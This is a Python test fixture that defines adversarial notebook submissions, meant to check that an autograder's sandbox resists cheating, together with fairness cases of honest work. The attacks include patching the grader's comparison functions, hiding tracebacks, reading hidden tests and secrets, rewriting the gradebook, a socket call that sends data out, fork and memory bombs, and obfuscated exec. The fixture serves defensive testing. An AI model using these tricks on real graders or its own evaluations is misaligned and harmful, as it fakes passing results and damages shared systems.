"""The adversarial corpus: one submission per attack, plus the fairness cases.

Each entry is a small definition applied to the released notebook of the
synthetic ``hostile`` assignment (tests/adversarial/course.py):

- ``replace``: answer-cell grade id -> new source;
- ``add``: ``(after_grade_id, source)`` cells the student adds;
- ``mutate``: name of a structural change (see build.py);
- ``attacks``: the functions whose tests the attack tries to pass ("*": all);
- ``keep_correct``: functions filled with the solution (to show attribution stays local);
- ``dangerous``: only run inside the sandbox (it would harm an unsandboxed grader's machine).

Placeholders filled at build time: ``@@COURSE@@`` (absolute course folder),
``@@CANARY@@`` (a secret file outside the course), ``@@PORT@@`` (a local TCP
port the test listens on), ``@@VICTIM@@`` (another student's id).
"""

WRONG_SGD = "def sgd(w, dw, config=None):\n    return w, config or {}\n"
WRONG_L2 = "def l2_regularization_grad(W, reg):\n    return W * 0\n"
ALL = "*"

ATTACKS = [
    # --- objects that lie --------------------------------------------------------------------
    dict(name="eq_always_true", attacks=["sgd"], keep_correct=["l2_regularization_grad"], replace={"sgd": '''
class Anything:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __getattr__(self, name): return lambda *a, **k: self
    def __iter__(self): return iter([])
    def __len__(self): return 4
    def tolist(self): return []
def sgd(w, dw, config=None):
    return Anything(), config or {}
'''}),
    dict(name="tensor_subclass", attacks=["sgd"], keep_correct=["l2_regularization_grad"], replace={"sgd": '''
import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return torch.ones_like(other, dtype=torch.bool)
def sgd(w, dw, config=None):
    return w.as_subclass(Liar), config or {}
'''}),
    dict(name="ndarray_subclass", attacks=["l2_regularization_grad"], keep_correct=["sgd"],
         replace={"l2_regularization_grad": '''
import numpy as np
class Agree(np.ndarray):
    def __eq__(self, other): return True
def l2_regularization_grad(W, reg):
    return np.zeros(W.shape).view(Agree)
'''}),
    # --- monkeypatching the checks ------------------------------------------------------------
    dict(name="patch_torch_allclose", attacks=ALL, replace={"sgd": "import torch\ntorch.allclose = lambda *a, **k: True\n" + WRONG_SGD}),
    dict(name="patch_assert_close", attacks=ALL, replace={"sgd": "import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None\n" + WRONG_SGD}),
    dict(name="patch_numpy_checks", attacks=ALL, add=[("sgd", "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n")], replace={"sgd": WRONG_SGD}),
    dict(name="patch_math_isclose_fabs", attacks=ALL, replace={"sgd": "import math\nmath.isclose = lambda *a, **k: True\nmath.fabs = lambda x: 0.0\n" + WRONG_SGD}),
    dict(name="patch_builtins_isinstance_type", attacks=ALL, add=[(None, "import builtins\nbuiltins.isinstance = lambda *a: True\n_t = builtins.type\n")], replace={"sgd": WRONG_SGD}),
    dict(name="shadow_builtins", attacks=ALL, add=[("sgd", "zip = lambda *a: []\nlen = lambda x: 4\ntype = lambda x: __import__('torch').Tensor\n")], replace={"sgd": WRONG_SGD, "l2_regularization_grad": WRONG_L2}),
    # --- switching error reporting off --------------------------------------------------------
    dict(name="showtraceback_override", attacks=ALL, add=[(None, "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None\n")]),
    dict(name="sys_excepthook", attacks=ALL, add=[(None, "import sys\nsys.excepthook = lambda *a: None\n")]),
    dict(name="set_custom_exc", attacks=ALL, add=[(None, "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n")]),
    dict(name="input_transformer_blanks_tests", attacks=ALL, add=[(None, '''
def _blank(lines):
    return ["pass\\n"] if any("BEGIN HIDDEN" in l or "visible check" in l for l in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank)
''')]),
    dict(name="pre_run_cell_hook", attacks=ALL, add=[(None, '''
def _hook(info):
    import torch
    torch.allclose = lambda *a, **k: True
    globals()["_close"] = lambda *a, **k: True
get_ipython().events.register("pre_run_cell", _hook)
''')], replace={"sgd": WRONG_SGD}),
    # --- escaping the kernel's folder ----------------------------------------------------------
    dict(name="read_hidden_tests_and_source", attacks=ALL, add=[(None, '''
import glob, os
for _p in ["@@COURSE@@/source/hostile/hostile.ipynb", "../../../source/hostile/hostile.ipynb",
           "@@COURSE@@/gradebook.db", "@@CANARY@@", "/proc/1/environ"] + glob.glob("/tmp/autograder-*/gradebook.db"):
    try:
        print(open(_p, errors="replace").read()[:200000])
    except Exception as e:
        print("could not read", _p, type(e).__name__)
''')], replace={"sgd": WRONG_SGD}),
    dict(name="write_gradebook", attacks=ALL, add=[(None, '''
import sqlite3
for _db in ["@@COURSE@@/gradebook.db", "../../../gradebook.db"]:
    try:
        _c = sqlite3.connect(_db)
        _c.execute("UPDATE grade SET auto_score = 1000")
        _c.commit()
        print("wrote", _db)
    except Exception as e:
        print("could not write", _db, type(e).__name__)
''')]),
    dict(name="write_other_student_folder", attacks=ALL, add=[(None, '''
for _p in ["@@COURSE@@/submitted/@@VICTIM@@/hostile/hostile.ipynb", "@@COURSE@@/autograded/@@VICTIM@@/hostile/hostile.ipynb",
           "../../@@VICTIM@@/hostile/hostile.ipynb"]:
    try:
        open(_p, "w").write("{}")
        print("overwrote", _p)
    except Exception as e:
        print("could not write", _p, type(e).__name__)
''')]),
    dict(name="write_results_folder", attacks=ALL, add=[(None, '''
import os, json
for _p in ["@@COURSE@@/grades/hostile/results/@@VICTIM@@.json", "@@COURSE@@/grades/hostile/grades.csv",
           "@@COURSE@@/grades/hostile/results/write_results_folder.json"]:
    try:
        os.makedirs(os.path.dirname(_p), exist_ok=True)
        open(_p, "w").write(json.dumps({"score": 1000}))
        print("wrote", _p)
    except Exception as e:
        print("could not write", _p, type(e).__name__)
''')]),
    dict(name="network_access", attacks=ALL, add=[(None, '''
import socket, urllib.request
for _target in [("127.0.0.1", @@PORT@@), ("10.0.2.2", @@PORT@@), ("pypi.org", 443)]:
    try:
        socket.create_connection(_target, timeout=3).sendall(b"exfiltrate")
        print("connected", _target)
    except Exception as e:
        print("no network", _target, type(e).__name__)
''')]),
    # --- denial of service ---------------------------------------------------------------------
    dict(name="fork_bomb", attacks=ALL, dangerous=True, add=[(None, '''
import os, time
_kids = 0
try:
    for _ in range(3000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        _kids += 1
except OSError as e:
    print("fork stopped after", _kids, type(e).__name__)
''')], replace={"sgd": WRONG_SGD}),
    dict(name="memory_bomb", attacks=ALL, dangerous=True, add=[(None, "_hog = bytearray(12 * 1024 ** 3)\n")], replace={"sgd": WRONG_SGD}),
    dict(name="sleep_forever", attacks=["sgd"], keep_correct=["l2_regularization_grad"], replace={"sgd": '''
import time
def sgd(w, dw, config=None):
    time.sleep(10 ** 6)
'''}),
    dict(name="os_exit", attacks=ALL, add=[("sgd", "import os\nos._exit(0)\n")], replace={"sgd": WRONG_SGD}),
    dict(name="kill_parent", attacks=ALL, dangerous=True, add=[(None, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)\n")]),
    # --- mangled structure ---------------------------------------------------------------------
    dict(name="delete_test_cells", attacks=ALL, mutate="delete_tests", replace={"sgd": WRONG_SGD, "l2_regularization_grad": WRONG_L2}),
    dict(name="duplicate_test_cells", attacks=ALL, mutate="duplicate_tests", replace={"sgd": WRONG_SGD, "l2_regularization_grad": WRONG_L2}),
    dict(name="retype_test_cells", attacks=ALL, mutate="retype_tests", replace={"sgd": WRONG_SGD, "l2_regularization_grad": WRONG_L2}),
    dict(name="stripped_metadata", attacks=ALL, mutate="strip_metadata", replace={"sgd": WRONG_SGD, "l2_regularization_grad": WRONG_L2}),
    dict(name="edited_test_cells", attacks=ALL, mutate="blank_tests", replace={"sgd": WRONG_SGD, "l2_regularization_grad": WRONG_L2}),
    # --- output tricks -------------------------------------------------------------------------
    dict(name="million_lines", attacks=["sgd"], keep_correct=["l2_regularization_grad"], replace={"sgd": "for _i in range(1_000_000):\n    print('spam line', _i)\n" + WRONG_SGD}),
    dict(name="fake_all_tests_passed", attacks=["sgd"], keep_correct=["l2_regularization_grad"], replace={"sgd": '''
print("All tests passed!")
def sgd(w, dw, config=None):
    print("sgd: visible check passed\\nAll tests passed!")
    return w, config or {}
'''}),
    dict(name="branch_on_nbgrader_execution", attacks=ALL, replace={"sgd": '''
import os, torch
if os.environ.get("NBGRADER_EXECUTION"):
    torch.allclose = lambda *a, **k: True
def sgd(w, dw, config=None):
    return w, config or {}
'''}),
    # --- obfuscation and introspection ---------------------------------------------------------
    dict(name="exec_obfuscated_patch", attacks=ALL, replace={"sgd": '''
import base64
exec(base64.b64decode("aW1wb3J0IG1hdGgKbWF0aC5mYWJzID0gbGFtYmRhIHg6IDAuMAo=").decode())
def sgd(w, dw, config=None):
    return w, config or {}
'''}),
    dict(name="frame_walk_replaces_checker", attacks=["sgd"], replace={"sgd": '''
import inspect
def sgd(w, dw, config=None):
    caller = inspect.currentframe().f_back
    caller.f_globals["_close"] = lambda *a, **k: True
    return w, config or {}
'''}),
    dict(name="gc_finds_checker", attacks=["sgd"], replace={"sgd": '''
import gc
def sgd(w, dw, config=None):
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "_close":
            obj.__code__ = (lambda got, want, tol: True).__code__
    return w, config or {}
'''}),
    dict(name="sys_modules_swap", attacks=ALL, add=[(None, '''
import sys, types
_fake = types.ModuleType("math")
_fake.fabs = lambda x: 0.0
sys.modules["math"] = _fake
''')], replace={"sgd": WRONG_SGD}),
    # --- assignment rules ----------------------------------------------------------------------
    dict(name="torch_optim_in_update_rule", attacks=["sgd"], keep_correct=["l2_regularization_grad"], replace={"sgd": '''
import torch
def sgd(w, dw, config=None):
    config = config or {}
    config.setdefault("learning_rate", 1e-2)
    p = torch.nn.Parameter(w.clone())
    opt = torch.optim.SGD([p], lr=config["learning_rate"])
    p.grad = dw.clone()
    opt.step()
    return p.detach(), config
'''}),
    dict(name="autograd_for_analytic_gradient", attacks=["l2_regularization_grad"], keep_correct=["sgd"],
         replace={"l2_regularization_grad": '''
import torch
def l2_regularization_grad(W, reg):
    with torch.enable_grad():
        W2 = W.detach().clone().requires_grad_(True)
        (reg * (W2 * W2).sum()).backward()
    return W2.grad.detach()
'''}),
]

#: Honest work that must keep full marks (and must not be flagged).
FAIRNESS = [
    dict(name="fair_honest", solution=True),
    dict(name="fair_warnings", solution=True, replace={"sgd": '''
import warnings
def sgd(w, dw, config=None):
    warnings.warn("this learning rate is large", UserWarning)
    warnings.warn("old API", DeprecationWarning)
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    return w - config["learning_rate"] * dw, config
'''}),
    dict(name="fair_unseeded", solution=True, add=[("sgd", "import torch\n_w = torch.randn(5)\nprint(sgd(_w, torch.randn(5))[0])\n")]),
    dict(name="fair_prints_a_lot", solution=True, replace={"sgd": '''
for _i in range(20000):
    print("training step", _i, "loss", 1.0 / (_i + 1))
def sgd(w, dw, config=None):
    print("sgd called with", w.tolist(), dw.tolist())
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    return w - config["learning_rate"] * dw, config
'''}),
    dict(name="fair_slow_within_budget", solution=True, replace={"sgd": '''
import time
time.sleep(@@SLOW@@)
def sgd(w, dw, config=None):
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    return w - config["learning_rate"] * dw, config
'''}),
    dict(name="fair_helper_cell", solution=True, add=[("sgd", "def _step(w, dw, lr):\n    return w - lr * dw\n")], replace={"sgd": '''
def sgd(w, dw, config=None):
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    return _step(w, dw, config["learning_rate"]), config
'''}),
    dict(name="fair_magics_and_timing", solution=True, add=[("sgd", "import torch\n%time _ = sgd(torch.ones(3), torch.ones(3))\n")]),
]
